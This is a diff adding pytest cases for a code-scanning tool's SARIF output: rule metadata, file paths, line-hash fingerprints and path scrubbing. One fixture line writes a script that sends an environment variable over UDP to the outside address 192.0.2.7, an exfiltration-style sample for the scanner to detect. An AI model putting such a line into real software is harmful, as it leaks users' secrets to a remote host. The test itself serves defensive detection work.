@@ -280,9 +280,29 @@ def test_every_form_says_the_same(lang: str) -> None:
     log = json.loads(check("--lang", lang, "--format", "sarif", *python(code)).stdout)
     (result,) = log["runs"][0]["results"]
     assert (log["version"], result["ruleId"], result["level"]) == ("2.1.0", "L25", "error")
+    assert result["message"]["text"] and set(log["runs"][0]["tool"]["driver"]["rules"][0]) >= {"id", "help"}
     suites = ElementTree.fromstring(check("--lang", lang, "--format", "junit", *python(code)).stdout.encode())
     assert (suites.get("failures"), suites.get("errors")) == ("1", "0")
     assert suites.find(".//failure") is not None
+
+
+def test_sarif_names_the_file_and_knows_the_same_finding_again(tmp_path: Path) -> None:
+    """Code scanning shows no finding without a file, and tells new ones from old ones by a fingerprint."""
+    script = tmp_path / "src" / "app.py"
+    script.parent.mkdir()
+    script.write_text(
+        f"{RAW_QUERY}\nimport os\ns.sendto(b'to ' + os.environ['SHIM_CANARY'].encode(), ('192.0.2.7', 5300))\n"
+    )
+    words = ("--", sys.executable, "src/app.py")
+    runs = [json.loads(check("--format", "sarif", *words, cwd=tmp_path).stdout)["runs"][0] for _ in range(2)]
+    prints = [
+        sorted(result["partialFingerprints"]["primaryLocationLineHash"] for result in run["results"]) for run in runs
+    ]
+    assert prints[0] == prints[1] and len(set(prints[0])) == 2
+    places = [result["locations"][0]["physicalLocation"] for run in runs for result in run["results"]]
+    assert {place["artifactLocation"]["uri"] for place in places} == {"src/app.py"}
+    scrubbed = check("--scrub", "--format", "sarif", *words, cwd=tmp_path).stdout
+    assert "src/app.py" not in scrubbed and '"uri": "python' in scrubbed
 
 
 def test_junit_tells_an_error_from_a_failure() -> None:
